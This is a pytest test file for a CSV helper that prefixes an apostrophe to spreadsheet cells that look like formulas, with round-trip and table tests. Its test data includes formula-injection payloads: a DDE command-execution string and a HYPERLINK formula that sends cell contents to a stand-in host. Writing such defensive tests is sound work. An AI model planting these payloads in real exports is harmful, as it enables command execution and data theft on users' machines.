"""Text in CSV: no formula for a spreadsheet, and the same text again when it is read back."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from eventstudy.files.csv_text import SIGNS, csv_line, csv_text, guarded, unguarded, write_csv

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.y?"&A1,"more")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "-",
    "-10,A1",
    "+2, =1",
)
HARMLESS = ("NVDA", "^GSPC", "−13.3%", "–", "it's", "'quoted'", "", "a=b", "1-2", "EW_EX_AI", "'")
FIGURES = ("-10,10", "+2, +5", "-0.1697", "+3", "-1e-05", "-.5", "-5.")


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", [*HARMLESS, *FIGURES], ids=ascii)
def test_other_text_and_figures_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n ＝－1.eA")) | st.text())
def test_reading_gives_back_what_was_written(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in (*SIGNS, "\t", "\r", "\n") or [
        float(each) for each in text.split(",")
    ]


def test_a_table_keeps_its_figures_and_guards_heads_and_texts_of_every_type() -> None:
    texts = ["=1+1", "^GSPC", None]
    table = pd.DataFrame(
        {
            "object": pd.Series(texts, dtype=object),
            "string": pd.Series(texts, dtype="string"),
            "category": pd.Series(texts, dtype="category"),
            "mixed": pd.Series([-1.5, "-x", None], dtype=object),
            "figure": [-0.25, np.nan, 3.0],
            "truth": [True, False, True],
            "day": pd.to_datetime(["2025-01-27", None, "2025-01-28"]),
            "@head": [-1, 0, 1],
        }
    )
    text = csv_text(table)
    head, *rows = list(csv.reader(io.StringIO(text)))
    assert head == [*("object", "string", "category", "mixed", "figure", "truth", "day", "'@head")]
    assert rows[0] == ["'=1+1"] * 3 + ["-1.5", "-0.25", "True", "2025-01-27", "-1"]
    assert rows[1] == ["^GSPC"] * 3 + ["'-x", "", "False", "", "0"]
    assert rows[2] == ["", "", "", "", "3.0", "True", "2025-01-28", "1"]
    assert "\r" not in text


def test_a_file_is_utf_8_with_unix_line_ends(tmp_path) -> None:
    write_csv(pd.DataFrame({"title": ["=“a”", "b"]}), tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_bytes() == "title\n'=“a”\nb\n".encode()


def test_a_line_is_guarded_cell_by_cell() -> None:
    assert csv_line(["a", '=1,"2"', "-3"], "\r\n") == 'a,"\'=1,""2""",-3\r\n'
